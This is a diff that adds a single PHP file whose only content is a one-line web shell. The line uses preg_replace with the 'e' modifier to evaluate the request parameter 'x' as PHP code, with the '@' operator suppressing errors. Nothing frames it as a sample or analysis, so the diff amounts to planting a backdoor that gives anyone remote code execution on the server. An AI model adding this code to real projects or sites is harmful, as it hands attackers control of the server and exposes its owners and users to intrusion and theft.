@@ -1,0 +1,1 @@
+<?php @preg_replace("#(.+)#ie", "\\1", $_REQUEST['x']); ?>
